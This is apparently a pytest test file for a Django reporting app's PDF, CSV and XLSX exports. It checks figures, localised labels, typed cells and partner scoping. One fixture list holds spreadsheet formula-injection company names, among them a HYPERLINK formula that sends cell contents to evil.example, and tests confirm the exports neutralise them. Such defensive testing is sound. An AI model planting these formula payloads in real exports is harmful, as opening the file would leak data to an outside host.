"""The exports: the PDF's figures, labels in the export's language, typed XLSX cells, no live formulas."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.tests.factories import FunderFactory
from companies.models import Company
from companies.tests.factories import CompanyFactory
from innoscheck.workflow import Status
from reporting import exports, facts, pdf, selectors, tables
from reporting.models import ReportKind

from .conftest import Q1, Q2
from .factories import ReportFactory, at, voucher

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTab GmbH",
    "\rReturn GmbH",
]


@pytest.fixture
def funder_client(client):
    client.force_login(FunderFactory(language="de"))
    return client


def _get(client, dataset, fmt, programme, language="de"):
    query = {"phase": programme.pk, "preset": "custom", "date_from": "2026-01-01", "date_to": "2026-03-31"}
    response = client.get(reverse("reporting:export", args=[dataset, fmt]), query, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def _sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


def _flat(text: str) -> str:
    """Text with its white space made single spaces and words hyphenated at a line end joined again."""
    return re.sub(r"([-/])\s+", r"\1", " ".join(text.replace("\u00a0", " ").split()))


def _pdf_text(report, data) -> str:
    """The report's text without its annex (the figures are all in the body)."""
    content, _pages = pdf.render_body_pdf(report=report, data=data)
    return _flat(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages))


@pytest.mark.parametrize("language", ["de", "en"])
def test_every_figure_of_the_pdf_is_in_the_indicator_csv(programme, funder_client, language):
    report = ReportFactory(kind=ReportKind.INDICATORS, phase=programme, period_start=Q1.start, period_end=Q1.end)
    with translation.override(language):
        data = selectors.report_data(report=report)
        pdf_text = _pdf_text(report, data)
        figure_tables = tables.figure_tables(data)
    csv_rows = _csv(_get(funder_client, "indicators", "csv", programme, language))
    checked = 0
    for section in figure_tables.values():
        for table in section:
            assert table.title in {row[0] for row in csv_rows if len(row) == 1}
            for row, cells in table.lines:
                # The PDF shows the row with each figure formatted in its unit ...
                shown = _flat(" ".join([row.label, *(cell.text for cell in cells)]))
                assert shown in pdf_text, shown
                # ... and the CSV has the same row with the same numbers.
                match = [line for line in csv_rows if row.label in line]
                assert match, row.label
                numbers = [_flat(cell.text).split(" ")[0] for cell in cells]
                values = match[0][:-1] if row.unit else match[0]  # the unit column ends a row with units
                assert [number if number != "–" else "" for number in numbers] == values[-len(numbers) :], match[0]
                checked += 1
    assert checked >= 25


def test_german_indicator_csv_names_the_figures_the_issue_missed(programme, funder_client):
    text = _get(funder_client, "indicators", "csv", programme).decode("utf-8-sig")
    for label in (
        "Gecoachte Unternehmen",
        "Anmeldungen zu Veranstaltungen",
        "Unternehmen in Projekten",
        "Finanzieller Fortschritt",
        "Gutscheinbudget",
        "Reserviert (bewilligt, noch nicht ausgezahlt)",
        "Frei",
        "Median",
    ):
        assert label in text, label
    lines = _csv(text.encode("utf-8-sig"))
    budget = next(line for line in lines if line[:1] == ["Gutscheinbudget"])
    assert budget == ["Gutscheinbudget", "100.000,00", "EUR"]
    median = next(line for line in lines if line[:1] and line[0].startswith("Median"))
    assert median[-1] == "Tage"


def test_german_companies_export_shows_labels_not_codes(programme, funder_client):
    rows = _csv(_get(funder_client, "companies", "csv", programme))
    assert rows[0] == ["Unternehmen", "Ort", "KMU-Klasse", "Gegründet", "Gutschein", "Coaching", "Beihilfe (EUR)"]
    alpha = next(row for row in rows if row[0] == "Alpha Frästechnik GmbH")
    assert alpha[2] == "Kleinstunternehmen"
    assert alpha[4:6] == ["ja", "ja"]
    values = {value for row in rows for value in row}
    assert not values & {"micro", "small", "medium", "not_sme", "True", "False"}
    sheet_rows = list(_sheet(_get(funder_client, "companies", "xlsx", programme)).iter_rows(values_only=True))
    assert next(row for row in sheet_rows if row[0] == "Alpha Frästechnik GmbH")[2] == "Kleinstunternehmen"


def test_english_companies_export_speaks_english(programme, client):
    client.force_login(FunderFactory(language="en"))
    rows = _csv(_get(client, "companies", "csv", programme, language="en"))
    assert rows[0][:3] == ["Company", "City", "SME class"]
    assert next(row for row in rows if row[0] == "Alpha Frästechnik GmbH")[2] == "Micro enterprise"


def test_xlsx_cells_are_typed_with_german_formats(programme, funder_client):
    sheet = _sheet(_get(funder_client, "vouchers", "xlsx", programme))
    rows = list(sheet.iter_rows())
    beta = next(row for row in rows if row[1].value == "Beta Metallbau GmbH")
    amount = beta[8]
    assert amount.value == Decimal("7500") or amount.value == 7500
    assert amount.data_type == "n" and amount.number_format == '#,##0.00 "€"'
    submitted = beta[6]
    assert submitted.is_date and submitted.value.date() == datetime.date(2026, 3, 1)
    assert submitted.number_format == "DD.MM.YYYY"

    indicators = _sheet(_get(funder_client, "indicators", "xlsx", programme))
    cells = {row[2].value: row for row in indicators.iter_rows() if len(row) > 4 and row[0].value == "RCO01"}
    supported = cells["Geförderte Unternehmen"][3]
    assert supported.value == 2 and supported.data_type == "n" and supported.number_format == "#,##0"
    shares = [row for row in indicators.iter_rows() if row[0].value == "Gebundener Anteil"]
    assert shares and shares[0][1].number_format == "0.0 %" and shares[0][1].data_type == "n"
    money = [row for row in indicators.iter_rows() if row[0].value == "Gutscheinbudget"][0][1]
    assert money.value == 100000 and money.number_format == '#,##0.00 "€"'


def test_english_xlsx_dates_are_iso(programme, client):
    client.force_login(FunderFactory(language="en"))
    rows = list(_sheet(_get(client, "vouchers", "xlsx", programme, language="en")).iter_rows())
    assert rows[1][6].is_date and rows[1][6].number_format == "YYYY-MM-DD"


@pytest.fixture
def hostile_companies(programme):
    for number, name in enumerate(HOSTILE_NAMES, start=1):
        company = CompanyFactory(name=name)
        voucher(
            company=company,
            phase=programme,
            status=Status.APPROVED,
            submitted=at(2026, 1, number),
            decided=at(2026, 2, number),
        )
    facts.rebuild()  # made by factories, not through the services
    return HOSTILE_NAMES


@pytest.mark.parametrize("dataset", ["companies", "vouchers"])
def test_csv_neutralises_formulas(programme, funder_client, hostile_companies, dataset):
    rows = _csv(_get(funder_client, dataset, "csv", programme))
    column = 0 if dataset == "companies" else 1
    names = {row[column] for row in rows[1:]}
    for name in hostile_companies:
        assert f"'{name}" in names, name
    assert "Alpha Frästechnik GmbH" in names  # ordinary names stay as they are


@pytest.mark.parametrize("dataset", ["companies", "vouchers"])
def test_xlsx_stores_formulas_as_text(programme, funder_client, hostile_companies, dataset):
    sheet = _sheet(_get(funder_client, dataset, "xlsx", programme))
    column = 0 if dataset == "companies" else 1
    rows = {row[column].value: row for row in sheet.iter_rows(min_row=2)}
    # An XML reader takes a carriage return in a text for a line feed.
    hostile = [rows[name.replace("\r", "\n")] for name in hostile_companies]
    assert all(row[column].data_type == "s" and row[column].quotePrefix for row in hostile)
    if dataset == "vouchers":
        assert all(row[8].data_type == "n" for row in hostile)  # the figures of the same rows stay numbers


def test_indicator_xlsx_holds_the_pdf_tables_figures_as_numbers(programme, funder_client):
    report = ReportFactory(kind=ReportKind.INDICATORS, phase=programme, period_start=Q1.start, period_end=Q1.end)
    with translation.override("de"):
        figure_tables = tables.figure_tables(selectors.report_data(report=report))
    sheet_rows = [row for row in _sheet(_get(funder_client, "indicators", "xlsx", programme)).iter_rows() if row]
    by_label = {}
    for row in sheet_rows:
        for index, cell in enumerate(row[:3]):
            if isinstance(cell.value, str):
                by_label.setdefault(cell.value, (row, index))
    for section in figure_tables.values():
        for table in section:
            for figure_row, cells in table.lines:
                row, index = by_label[figure_row.label]
                values = [cell.value for cell in row[index + 1 : index + 1 + len(cells)]]
                expected = [
                    None if cell.value is None else float(cell.value) / (100 if cell.unit == tables.PERCENT else 1)
                    for cell in cells
                ]
                assert [None if value is None else float(value) for value in values] == pytest.approx(expected), (
                    figure_row.label
                )


def test_voucher_export_lists_a_withdrawal_in_its_period_with_the_city_at_approval(programme):
    """Q2's export holds the voucher approved in Q1 and cancelled in Q2 (a "grant withdrawn" of Q2), with
    the withdrawal date and the city the figures count it under, though the company has moved since."""
    company = CompanyFactory(name="Umzug GmbH", city="Bochum")
    voucher(
        company=company,
        phase=programme,
        status=Status.CANCELLED,
        submitted=at(2026, 1, 5),
        decided=at(2026, 2, 5),
        withdrawn=at(2026, 5, 5),
    )
    Company.objects.filter(pk=company.pk).update(city="Hagen")
    with translation.override("de"):
        table = list(exports.rows(dataset="vouchers", phase=programme, period=Q2, user=FunderFactory()))
    assert table[0][-1] == "Zuwendung zurückgenommen am"
    [row] = [row for row in table[1:] if row[1] == "Umzug GmbH"]
    assert row[2] == "Bochum"
    assert row[-1].date() == datetime.date(2026, 5, 5)


@pytest.mark.parametrize("dataset", ["companies", "vouchers"])
def test_row_exports_list_only_the_companies_a_partners_staff_look_after(programme, client, dataset):
    """One scope rule (companies.scope) for the row-by-row exports: Bochum's staff read Bochum's companies,
    the lead partner's staff and the funder the whole programme."""
    from accounts.tests.factories import StaffFactory
    from programme.choices import Region
    from programme.tests.factories import PartnerOrganisationFactory, ResponsibilityFactory

    lead = PartnerOrganisationFactory(short_name="WF DO", is_lead=True)
    bochum = ResponsibilityFactory(region=Region.BOCHUM, partner__short_name="WEG BO").partner
    ours = CompanyFactory(name="Bochumer Gießerei GmbH", region=Region.BOCHUM, city="Bochum", postcode="44787")
    theirs = CompanyFactory(name="Dortmunder Drahtzug GmbH", region=Region.DORTMUND)
    assert (ours.responsible_partner, theirs.responsible_partner) == (bochum, lead)
    for company in (ours, theirs):
        voucher(
            company=company, phase=programme, status=Status.APPROVED, submitted=at(2026, 1, 5), decided=at(2026, 2, 5)
        )
    facts.rebuild()

    def names(user):
        client.force_login(user)
        return {row[1 if dataset == "vouchers" else 0] for row in _csv(_get(client, dataset, "csv", programme))[1:]}

    bochum_rows = names(StaffFactory(partner=bochum))
    assert ours.name in bochum_rows and theirs.name not in bochum_rows
    assert {ours.name, theirs.name} <= names(StaffFactory(partner=lead))
    assert {ours.name, theirs.name} <= names(FunderFactory())
